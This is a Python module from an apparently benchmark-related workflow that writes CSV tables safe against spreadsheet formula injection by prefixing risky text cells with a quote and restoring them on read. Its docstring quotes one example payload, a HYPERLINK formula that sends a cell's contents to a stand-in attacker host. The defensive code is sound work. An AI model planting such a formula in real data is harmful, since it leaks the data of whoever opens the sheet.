"""Every CSV table the workflow writes, safe to open in a spreadsheet, written by one function.

A cell of text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets ("CSV injection", OWASP): a published
``systems/<system>.json`` whose ``submitter`` is ``=HYPERLINK("http://evil.example/?x="&A1,
"x")``, or a log line that names the host, would run in the spreadsheet of whoever opens
runs.csv, summary.csv or leaderboard.csv. :func:`write_csv` writes every table (runs.csv,
summary.csv, summary.partial.csv, comparison.csv, evals.csv, leaderboard.csv) with such a
text cell prefixed by a single quote ``'``, as OWASP recommends: the spreadsheet shows the text
and evaluates nothing. Only text is touched: a number (``-1.5``, ``-3``) is written as a
number and stays one. A text that already starts with quotes followed by one of those
characters gets one more quote, so :func:`restore` gives back exactly the text that was
written, and :func:`read_csv` (the workflow's own reader of these tables) reads every cell as
it was before writing.

A text cell holding a carriage return is quoted (RFC 4180), so it stays one cell: the csv
module's writer, which pandas uses, quotes only the characters of its line terminator (``\\n``
here) and a bare ``\\r`` would start a new row for every reader.

This imports nothing of the package but :mod:`scripts.core.hashing` (the atomic write).
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

from scripts.core.hashing import write_atomic

# what makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# the line terminator of the tables; cells are quoted as if it were "\r\n" (see to_csv_text)
LINE_END = "\n"
NUMERIC_KINDS = "biufcmM"  # numpy dtype kinds that cannot hold text


def neutralise(text: str) -> str:
    """``text`` as a cell no spreadsheet evaluates: ``'`` before a text that starts with one of
    :data:`FORMULA_STARTS`, or with quotes and then one of them (so :func:`restore` is exact);
    any other text unchanged."""
    return QUOTE + text if text.lstrip(QUOTE).startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    """The text that :func:`neutralise` made ``text`` from."""
    if text.startswith(QUOTE) and text.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _cells(values: pd.Series, fix: Any) -> pd.Series:
    """``fix`` applied to the text cells of a column; numbers and empty cells as they are."""
    if values.dtype.kind in NUMERIC_KINDS:
        return values
    return values.astype(object).map(lambda v: fix(v) if isinstance(v, str) else v)


def _apply(frame: pd.DataFrame, fix: Any) -> pd.DataFrame:
    out = pd.DataFrame(
        {i: _cells(frame.iloc[:, i], fix) for i in range(frame.shape[1])}, index=frame.index
    )
    out.columns = [fix(c) if isinstance(c, str) else c for c in frame.columns]
    return out


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name :func:`neutralise`\\ d."""
    return _apply(frame, neutralise)


def restored_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` (read from a table :func:`write_csv` wrote) with every text cell and
    column name :func:`restore`\\ d."""
    return _apply(frame, restore)


def _outside_quotes(text: str, old: str, new: str) -> str:
    """``old`` replaced by ``new`` where it is not inside a quoted cell. In the csv module's
    output a ``"`` only opens or closes a quoted cell, or is doubled inside one (the part
    between a doubled pair is empty), so the even parts of a split on ``"`` are outside."""
    parts = text.split('"')
    parts[::2] = [p.replace(old, new) for p in parts[::2]]
    return '"'.join(parts)


def to_csv_text(frame: pd.DataFrame, float_format: str | None = None) -> str:
    """``frame`` (its index left out) as the text of a safe CSV table: :func:`safe_frame`,
    rows ending in ``\\n``, and any cell with a ``\\r`` or ``\\n`` quoted."""
    text = safe_frame(frame).to_csv(index=False, float_format=float_format, lineterminator="\r\n")
    return _outside_quotes(text, "\r\n", LINE_END)


def write_csv(
    table: pd.DataFrame | Iterable[Mapping[str, Any]],
    path: str | Path,
    *,
    columns: Sequence[str] | None = None,
    float_format: str | None = None,
) -> None:
    """Write ``table`` (a frame, or rows as mappings with ``columns`` in this order) to
    ``path`` atomically as a CSV table that is safe to open in a spreadsheet
    (:func:`to_csv_text`). ``float_format``: as pandas' ``to_csv`` takes it."""
    frame = table if isinstance(table, pd.DataFrame) else pd.DataFrame(list(table))
    if columns is not None:
        frame = frame.reindex(columns=list(columns))
    write_atomic(Path(path), to_csv_text(frame, float_format))


def read_csv(path: str | Path, **kwargs: Any) -> pd.DataFrame:
    """A table :func:`write_csv` wrote, as pandas reads it (``kwargs`` go to ``pd.read_csv``),
    with its text cells as they were before writing (:func:`restored_frame`)."""
    return restored_frame(pd.read_csv(path, **kwargs))
